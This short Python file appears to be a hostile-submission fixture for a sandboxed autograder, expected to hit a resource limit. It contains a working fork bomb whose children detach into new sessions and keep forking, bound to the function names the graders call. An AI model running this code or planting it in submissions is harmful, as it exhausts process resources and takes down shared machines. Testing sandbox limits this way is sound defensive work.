# HOSTILE: a fork bomb whose children ignore failures, detach into their own
# sessions and keep forking.
# EXPECT: limit
# LIMITS: wall_s=2
# GRADERS: test_dy_dw_by_hand_matches_autograd test_backward_node_names_matches_graph
import os


def _bomb(*args):
    while True:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
        except OSError:
            pass


build_graph = dy_dw_by_hand = dy_dw_autograd = backward_node_names = count_paths = _bomb
